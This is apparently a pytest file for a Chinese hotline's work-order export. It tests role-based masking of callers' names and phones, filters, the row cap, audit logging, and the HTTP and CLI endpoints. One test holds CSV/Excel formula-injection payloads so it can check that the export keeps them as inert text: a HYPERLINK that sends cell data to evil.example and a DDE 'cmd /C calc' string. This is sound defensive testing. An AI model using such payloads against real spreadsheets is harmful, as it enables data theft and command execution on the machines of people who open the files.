"""工单导出 on SQLite and PostgreSQL: what each role gets (masked as on screen), the filters, text that must not
become a formula, the cap, the audit record, and the HTTP and command-line entry points."""

from __future__ import annotations

import io
import json
import sys
import tempfile
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from openpyxl.worksheet._writer import ALL_TEMP_FILES
from sqlalchemy import update

from hotline.accounts import service as accounts
from hotline.app import create_app
from hotline.db import session_scope
from hotline.errors import HotlineError, InvalidInput
from hotline.timeutil import CHINA_TZ
from hotline.workorders import advice, export, service
from hotline.workorders.export import Exporter
from hotline.workorders.service import OrderFilters
from hotline.workorders.store import Order
from tests.workorders.test_entrypoints import Ran
from tests.workorders.test_service import RSJ, ZJJ, units  # noqa: F401 (the fixture, used by every test)

pytestmark = pytest.mark.usefixtures("units")
AT = datetime(2021, 9, 30, 10, 0, tzinfo=CHINA_TZ)
LATER = datetime(2021, 10, 12, 9, 0, tzinfo=CHINA_TZ)  # the export's "now": 10-12 China time
WHO = Exporter("wangfang", "王芳（wangfang）", "10.0.0.7")
HEADER_ROW = export.HEADER_ROW


def _create(**kw: Any) -> str:
    args: dict[str, Any] = {"type": "求助", "content": "小区停水两天", "phone": "13812341234", "region": "510100"}
    args.update({"at": AT, "caller_name": "王小五", **kw})
    with session_scope() as session:
        order = service.create_order(session, **args)
        session.flush()
        return order.number


def _act(number: str, action: str, **kw: Any) -> None:
    with session_scope() as session:
        service.act(session, number, action, at=kw.pop("at", AT), **kw)


def _export(path: Path, role: str = "dispatcher", *, limit: int | None = None, **filters: Any) -> export.Exported:
    with session_scope() as session:
        return export.export_orders(
            session, path, role=role, filters=OrderFilters(**filters), exporter=WHO, at=LATER, limit=limit
        )


def _sheet(source: Path | bytes) -> Any:
    book = load_workbook(io.BytesIO(source) if isinstance(source, bytes) else source)
    return book[export.SHEET]


def _rows(source: Path | bytes) -> dict[str, dict[str, Any]]:
    """The data rows by 工单编号, keyed by the header."""
    sheet = _sheet(source)
    header = [c.value for c in sheet[HEADER_ROW]]
    rows: dict[str, dict[str, Any]] = {}
    for cells in sheet.iter_rows(min_row=HEADER_ROW + 1, values_only=True):
        row = dict(zip(header, cells, strict=True))
        if row["工单编号"] and not str(row["工单编号"]).startswith("共 "):
            rows[row["工单编号"]] = row
    return rows


def _exported() -> list[tuple[str, str, str | None]]:
    with session_scope() as session:
        trail = accounts.audit_log(session)
    return [(e["login"], e["detail"], e["address"]) for e in trail if e["event"] == "exported"]


def test_each_role_gets_what_its_list_shows(tmp_path: Path) -> None:
    plain = _create()
    report = _create(type="举报", content="某工地违规施工")
    secret = _create(confidential=True)
    elsewhere = _create(caller_name="李四", phone="13900005678")
    for number in (plain, report, secret):
        _act(number, "dispatch", role="dispatcher", target_unit=ZJJ)
    _act(elsewhere, "dispatch", role="dispatcher", target_unit=RSJ)

    for role, unit in (("dispatcher", None), ("supervisor", None), ("department", ZJJ), ("agent", None)):
        path = tmp_path / f"{role}.xlsx"
        _export(path, role, unit=unit)
        rows = _rows(path)
        with session_scope() as session:
            listed = service.list_orders(session, OrderFilters(unit=unit), role=role, limit=1000, today=LATER.date())
        # Exactly the orders and the contact details the role sees on screen.
        assert set(rows) == {o["number"] for o in listed}, role
        for order in listed:
            row = rows[order["number"]]
            assert (row["来电人"], row["联系电话"]) == (order["caller_name"], order["caller_phone"]), role

    supervisor = _rows(tmp_path / "supervisor.xlsx")
    assert supervisor[plain]["联系电话"] == "138****1234" and supervisor[plain]["来电人"] == "王**"
    assert "13812341234" not in _all_text(tmp_path / "supervisor.xlsx")
    dispatcher = _rows(tmp_path / "dispatcher.xlsx")
    assert dispatcher[plain]["联系电话"] == "13812341234" and dispatcher[elsewhere]["来电人"] == "李四"
    department = _rows(tmp_path / "department.xlsx")
    assert set(department) == {plain, report, secret}  # not RSJ's order
    assert department[plain]["联系电话"] == "13812341234"  # the unit calls the citizen back
    assert department[report]["联系电话"] == "138****1234"  # 举报: whistle-blower protection
    assert department[secret]["联系电话"] == "138****1234" and department[secret]["是否保密"] == "是"
    with pytest.raises(InvalidInput) as unbound:
        _export(tmp_path / "x.xlsx", "department")
    assert unbound.value.code == "unit-required"


def _all_text(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml"))


def test_columns_title_and_china_times(tmp_path: Path) -> None:
    # 23:30 China time on 09-30 is 15:30 UTC: the row and the period go by the China date.
    late = _create(at=datetime(2021, 9, 30, 23, 30, tzinfo=CHINA_TZ), category="城乡建设", place="武侯区某小区")
    next_day = _create(at=datetime(2021, 10, 1, 0, 10, tzinfo=CHINA_TZ))
    _act(
        late,
        "dispatch",
        role="dispatcher",
        target_unit=ZJJ,
        co_units=[RSJ],
        at=datetime(2021, 9, 30, 23, 40, tzinfo=CHINA_TZ),  # the co-handling order's 受理 too
    )
    path = tmp_path / "period.xlsx"
    done = _export(path, "supervisor", since=date(2021, 9, 30), until=date(2021, 9, 30))
    assert (done.filename, done.ascii_filename) == ("工单导出_20211012.xlsx", "orders_20211012.xlsx")
    rows = _rows(path)
    part = f"{late}-01"
    assert set(rows) == {late, part} and next_day not in rows and done.count == 2
    lead = rows[late]
    assert lead["受理时间"] == datetime(2021, 9, 30, 23, 30)
    assert (lead["主办/协办"], lead["承办单位"], lead["协办单位"]) == (
        "主办",
        "成都市住房和城乡建设局",
        "成都市人力资源和社会保障局",
    )
    assert (lead["渠道"], lead["诉求类型"], lead["分类"], lead["地区"]) == ("电话", "求助", "城乡建设", "成都市")
    assert (lead["状态"], lead["诉求地点"], lead["时限状态"]) == ("已派单（待签收）", "武侯区某小区", "正常")
    assert lead["办理期限"] == datetime(2021, 10, 15)  # a date cell
    assert (rows[part]["主办/协办"], rows[part]["主办工单"], rows[part]["承办单位"]) == (
        "协办", late, "成都市人力资源和社会保障局",
    )  # fmt: skip
    sheet = _sheet(path)
    assert sheet["A1"].value == "工单导出：受理时间 2021-09-30 至 2021-09-30"
    assert sheet["A2"].value == (
        "导出人：王芳（wangfang）；查看角色：督办审核员（来电人信息按该角色的权限显示）；导出时间：2021-10-12 09:00（北京时间）"
    )
    assert sheet.freeze_panes == f"B{HEADER_ROW + 1}" and sheet.auto_filter.ref == f"A{HEADER_ROW}:AA{HEADER_ROW + 2}"
    assert [c.value for c in sheet[HEADER_ROW]][:4] == ["工单编号", "主办/协办", "主办工单", "受理时间"]
    assert sheet.cell(HEADER_ROW + 4, 1).value == "共 2 张工单"


def test_filters_are_the_lists(tmp_path: Path) -> None:
    overdue = _create(type="咨询", category="城乡建设/城市建设和市政管理")  # due 10-11
    _act(overdue, "dispatch", role="dispatcher", target_unit=ZJJ)
    fresh = _create(
        type="投诉", channel="web", category="劳动和社会保障", at=datetime(2021, 10, 11, 9, 0, tzinfo=CHINA_TZ)
    )
    other = _create(region="510300")

    def exported(**filters: Any) -> set[str]:
        _export(tmp_path / "f.xlsx", **filters)
        return set(_rows(tmp_path / "f.xlsx"))

    assert exported() == {overdue, fresh, other}
    assert exported(sla="overdue") == {overdue}
    assert exported(sla="on_time") == {fresh, other}
    assert exported(state="dispatched", unit=ZJJ) == {overdue}
    assert exported(region="自贡市") == {other}
    assert exported(type="投诉") == exported(channel="web") == {fresh}
    assert exported(category="城乡建设") == {overdue}  # a prefix of the path
    assert exported(category="城乡") == set()  # not a prefix of a level
    assert exported(since=date(2021, 10, 1)) == {fresh}
    assert exported(until=date(2021, 10, 10)) == {overdue, other}
    _export(tmp_path / "f.xlsx", sla="overdue", unit=ZJJ, category="城乡建设", since=date(2021, 9, 1))
    assert _sheet(tmp_path / "f.xlsx")["A1"].value == (
        "工单导出：受理时间 2021-09-01 起；时限状态：超期；承办单位：成都市住房和城乡建设局；分类：城乡建设"
    )
    for bad, code in (({"sla": "late"}, "invalid-sla"), ({"channel": "fax"}, "invalid-channel"),
                      ({"since": date(2021, 10, 2), "until": date(2021, 10, 1)}, "invalid-period")):  # fmt: skip
        with pytest.raises(HotlineError) as refused:
            _export(tmp_path / "bad.xlsx", **bad)
        assert refused.value.code == code
    with session_scope() as session:  # the list takes the same filters
        listed = service.list_orders(
            session, OrderFilters(since=date(2021, 10, 1), category="劳动和社会保障", channel="web")
        )
    assert [o["number"] for o in listed] == [fresh]


def test_an_order_waiting_for_its_callback_carries_its_deadline(tmp_path: Path) -> None:
    """回访时限: the day a 待回访 order is to be called back by (3 working days after 直接办结 on Thursday
    2021-09-30: the National Day holiday runs to 10-07, then 10-08 and the make-up Saturday 10-09 are working
    days); an order not yet answered has none."""
    answered = _create(type="咨询")
    _act(answered, "direct_resolve", role="agent", reply="已告知办理流程")
    waiting = _create()
    _export(tmp_path / "visit.xlsx")
    rows = _rows(tmp_path / "visit.xlsx")
    assert (rows[answered]["状态"], rows[answered]["回访时限"]) == ("待回访", datetime(2021, 10, 11))
    assert rows[waiting]["回访时限"] is None


def test_citizens_text_is_never_a_formula(tmp_path: Path) -> None:
    texts = {
        "诉求内容": '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
        "诉求地点": "+1+cmd|' /C calc'!A0",
        "来电人": "@SUM(1)",
        "答复内容": "-2+3",
    }
    number = _create(content=texts["诉求内容"], place=texts["诉求地点"], caller_name=texts["来电人"])
    tabbed = _create(place="#N/A")
    ctrl = _create()
    with session_scope() as session:  # as a feed or an import may store them (intake strips and keeps them)
        for key, content in ((tabbed, "\t=1+1"), (ctrl, "噪音\x0b扰民\x1f")):
            session.execute(update(Order).where(Order.number == key).values(content=content))
    _act(number, "direct_resolve", role="agent", reply=texts["答复内容"])
    path = tmp_path / "inject.xlsx"
    _export(path)
    sheet = _sheet(path)
    header = [c.value for c in sheet[HEADER_ROW]]
    cells = {row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=HEADER_ROW + 1)}
    for column, text in texts.items():
        cell = cells[number][column]
        assert (cell.data_type, cell.value) == ("s", text), column
        assert cell.quotePrefix  # Excel keeps it text when the cell is edited, too
    assert (cells[tabbed]["诉求内容"].data_type, cells[tabbed]["诉求内容"].value) == ("s", "\t=1+1")
    assert (cells[tabbed]["诉求地点"].data_type, cells[tabbed]["诉求地点"].value) == ("s", "#N/A")
    assert cells[ctrl]["诉求内容"].value == "噪音扰民"
    assert "<f>" not in _all_text(path)  # no formula anywhere in the file


def test_too_many_orders_are_refused_and_not_recorded(tmp_path: Path) -> None:
    for _ in range(3):
        _create(type="咨询")  # overdue at the export (10-12)
    temp_files = list(ALL_TEMP_FILES)
    with pytest.raises(InvalidInput) as refused:
        _export(tmp_path / "big.xlsx", limit=2)
    assert refused.value.code == "export-too-large" and refused.value.details == {"limit": 2, "count": 3}
    # With an SLA filter the orders are counted as they are written: refused on the one too many.
    with pytest.raises(InvalidInput) as counted:
        _export(tmp_path / "big.xlsx", sla="overdue", limit=2)
    assert counted.value.code == "export-too-large" and counted.value.details["count"] is None
    assert temp_files == ALL_TEMP_FILES  # the rows written so far are not left behind
    assert _exported() == []
    assert _export(tmp_path / "ok.xlsx", limit=3).count == 3
    assert export.MAX_ROWS == 100_000


def test_every_export_is_audited(tmp_path: Path) -> None:
    _create()
    _export(tmp_path / "a.xlsx", "supervisor", region="成都市", since=date(2021, 9, 1), until=date(2021, 9, 30))
    _export(tmp_path / "b.xlsx", "department", unit=ZJJ)
    assert _exported() == [
        ("wangfang", "工单 0 张（承办单位）；承办单位：成都市住房和城乡建设局", "10.0.0.7"),
        ("wangfang", "工单 1 张（督办审核员）；受理时间 2021-09-01 至 2021-09-30；地区：成都市", "10.0.0.7"),
    ]
    with session_scope() as session:
        assert accounts.audit_log(session, login="wangfang")[0]["event_label"] == "导出数据"


def test_a_callers_orders_are_exported_with_the_number_masked_in_the_title_and_audit(tmp_path: Path) -> None:
    mine = _create(phone="13812345678")
    _create(phone="13900005678")
    done = _export(tmp_path / "p.xlsx", "agent", phone="138 1234 5678")
    assert set(_rows(tmp_path / "p.xlsx")) == {mine}
    assert done.filters == "来电号码：138****5678"
    assert _sheet(tmp_path / "p.xlsx")["A1"].value == "工单导出：来电号码：138****5678"
    assert _exported() == [("wangfang", "工单 1 张（话务员）；来电号码：138****5678", "10.0.0.7")]
    with pytest.raises(HotlineError) as refused:
        _export(tmp_path / "s.xlsx", "supervisor", phone="13812345678")
    assert refused.value.code == "phone-filter-not-allowed"
    assert len(_exported()) == 1 and not (tmp_path / "s.xlsx").exists()


@pytest.fixture
def client(monkeypatch: pytest.MonkeyPatch) -> TestClient:
    monkeypatch.setattr(advice, "_advise_function", lambda: None)
    return TestClient(create_app())


def test_http_export(client: TestClient, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # where the file waits to be sent
    number = _create()
    _act(number, "dispatch", role="dispatcher", target_unit=ZJJ)
    answer = client.get("/api/orders/export.xlsx", params={"role": "supervisor", "unit": ZJJ, "actor": "督办甲"})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    disposition = answer.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="orders_') and disposition.endswith(".xlsx")
    assert f"filename*=UTF-8''{quote('工单导出_')}" in disposition
    assert answer.headers["cache-control"] == "no-store"
    rows = _rows(answer.content)
    assert list(rows) == [number] and rows[number]["联系电话"] == "138****1234"
    assert _exported() == [("督办甲", "工单 1 张（督办审核员）；承办单位：成都市住房和城乡建设局", "testclient")]

    unbound = client.get("/api/orders/export.xlsx", params={"role": "department"})
    assert unbound.status_code == 422 and unbound.json()["code"] == "unit-required"
    bad = client.get("/api/orders/export.xlsx", params={"since": "2021-13-01"})
    assert bad.status_code == 422 and bad.json()["code"] == "invalid-date"
    monkeypatch.setattr(export, "MAX_ROWS", 0)
    big = client.get("/api/orders/export.xlsx")
    assert big.status_code == 422 and big.json()["code"] == "export-too-large"
    assert len(_exported()) == 1
    assert list(tmp_path.iterdir()) == []  # sent or refused, no file is left behind
    # The list answers to the same filters.
    listed = client.get("/api/orders", params={"since": "2021-09-30", "until": "2021-09-30", "channel": "phone"})
    assert [o["number"] for o in listed.json()] == [number]


@pytest.fixture
def cli(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Callable[..., Ran]:
    """`hotline order …` in-process through the real entry point."""
    from hotline.cli import main

    def run(*args: str) -> Ran:
        monkeypatch.setattr(sys, "argv", ["hotline", "order", *args])
        try:
            main()
        except SystemExit as exc:
            code = exc.code
        else:
            code = 0
        out = capsys.readouterr()
        return Ran(int(code or 0), out.out, out.err)

    return run


def test_cli_export(cli: Callable[..., Ran], tmp_path: Path) -> None:
    number = _create()
    _act(number, "dispatch", role="dispatcher", target_unit=ZJJ)
    _create(region="510300")
    out = tmp_path / "工单导出.xlsx"
    done = cli(
        "export", "--output", str(out), "--role", "department", "--unit", ZJJ, "--since", "2021-09-30",
        "--actor", "lihua",
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == f"已导出 1 张工单到 {out}（受理时间 2021-09-30 起；承办单位：成都市住房和城乡建设局）"
    assert list(_rows(out)) == [number] and _rows(out)[number]["联系电话"] == "13812341234"
    assert out.stat().st_mode & 0o777 == 0o600
    assert _sheet(out)["A2"].value.startswith("导出人：lihua（命令行）；查看角色：承办单位")
    assert _exported() == [
        ("lihua", "工单 1 张（承办单位）；受理时间 2021-09-30 起；承办单位：成都市住房和城乡建设局", None)
    ]
    wrong = cli("export", "--output", str(tmp_path / "a.csv"))
    assert wrong.returncode == 2 and "unsupported-format" in wrong.stderr
    bad = cli("export", "--output", str(tmp_path / "b.xlsx"), "--sla", "late")
    assert bad.returncode == 2 and "invalid-sla" in bad.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["工单导出.xlsx"]  # no partial file left


def test_cli_list_takes_the_exports_filters(cli: Callable[..., Ran]) -> None:
    fresh = _create(at=datetime(2021, 10, 8, 9, 0, tzinfo=CHINA_TZ), channel="web", category="劳动和社会保障")
    _create(at=datetime(2021, 9, 28, 9, 0, tzinfo=CHINA_TZ), channel="web", category="劳动和社会保障")
    _create(at=datetime(2021, 10, 8, 10, 0, tzinfo=CHINA_TZ), category="劳动和社会保障")
    listed = cli(
        "list", "--since", "2021-10-01", "--until", "2021-10-31", "--channel", "web", "--category", "劳动和社会保障",
        "--json",
    )  # fmt: skip
    assert listed.returncode == 0, listed.stderr
    assert [o["number"] for o in json.loads(listed.stdout)] == [fresh]
    bad = cli("list", "--since", "2021-10-32")
    assert bad.returncode == 2 and "invalid-date" in bad.stderr


def test_cli_list_finds_a_callers_orders_newest_first_but_not_for_a_supervisor(cli: Callable[..., Ran]) -> None:
    older = _create(at=datetime(2021, 10, 8, 9, 0, tzinfo=CHINA_TZ), phone="13911112222")
    newer = _create(at=datetime(2021, 10, 9, 9, 0, tzinfo=CHINA_TZ), phone="139-1111-2222")
    _create(at=datetime(2021, 10, 9, 10, 0, tzinfo=CHINA_TZ), phone="13933334444")
    listed = cli("list", "--phone", "139 1111 2222", "--newest", "--json")
    assert listed.returncode == 0, listed.stderr
    assert [o["number"] for o in json.loads(listed.stdout)] == [newer, older]
    refused = cli("list", "--phone", "13911112222", "--role", "supervisor")
    assert refused.returncode == 2 and "phone-filter-not-allowed" in refused.stderr
